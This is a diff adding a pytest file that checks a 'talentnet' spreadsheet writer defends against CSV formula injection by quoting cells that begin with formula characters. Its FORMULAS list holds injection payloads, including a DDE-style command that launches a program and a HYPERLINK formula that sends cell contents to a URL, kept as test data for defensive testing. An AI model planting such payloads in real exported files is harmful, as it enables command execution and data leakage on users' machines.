@@ -1,0 +1,87 @@
+"""Tables that a spreadsheet opens without running anything."""
+
+import csv
+import datetime as dt
+import io
+
+import pytest
+
+from talentnet.spreadsheets import write_table
+
+FORMULAS = [
+    "=1+1",
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    '=HYPERLINK("https://example.org?x="&A1;"click")',
+    "|calc",
+    "%0A",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(A1)",
+    "−1",
+]
+SKIPPED = ["", " ", "\u00a0", "\u3000", "\u200b", "\ufeff", '"', "'", "“", "\x01", "\t", "\r", "\n"]
+
+
+def read(rows: list[list[object]]) -> list[list[str]]:
+    file = io.StringIO(newline="")
+    write_table(file, ["a"], rows)  # type: ignore[arg-type]  # what comes is what is tested
+    return list(csv.reader(io.StringIO(file.getvalue(), newline="")))[1:]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+@pytest.mark.parametrize("before", SKIPPED)
+def test_a_formula_is_a_text(formula: str, before: str) -> None:
+    ((cell,),) = read([[before + formula]])
+    assert cell[0] == "'"
+    assert cell.replace("'", "") == (before + formula).replace("'", "")
+
+
+@pytest.mark.parametrize(
+    ("separator", "guarded"),
+    [
+        (";", ";'"),
+        ("\t", "\t'"),
+        ("\n\n", "\n\n'"),
+        ("\r\n", "\r\n'"),
+        ("\u2028", "\u2028'"),
+        ("; ", ";' "),
+        ('";"', '";\'"'),
+    ],
+)
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_nor_is_one_where_other_separators_are_the_rule(
+    separator: str, guarded: str, formula: str
+) -> None:
+    assert read([[f"text{separator}{formula}"]]) == [[f"text{guarded}{formula}"]]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "",
+        "Lisbon, Portugal",
+        "C++ and C#; Rust",
+        "e = mc²",
+        "well-kept",
+        "one\ntwo\n\nthree",
+        "write to a@example.org",
+        "100% remote",
+        "O’Brien said “no”",
+        "مرحبا 👩‍👩‍👧‍👦 漢字",
+    ],
+)
+def test_any_other_text_is_as_it_was(text: str) -> None:
+    assert read([[text]]) == [[text]]
+
+
+@pytest.mark.parametrize("text", ["\ta", "\ra", "\na"])
+def test_a_control_character_does_not_begin_a_cell(text: str) -> None:
+    assert read([[text]]) == [[f"'{text}"]]
+
+
+def test_numbers_moments_and_nothing() -> None:
+    moment = dt.datetime(2026, 3, 1, 10, 30, tzinfo=dt.timezone(dt.timedelta(hours=1)))
+    assert read([[-3, moment, None, ""]]) == [["-3", "2026-03-01T09:30:00Z", "", ""]]
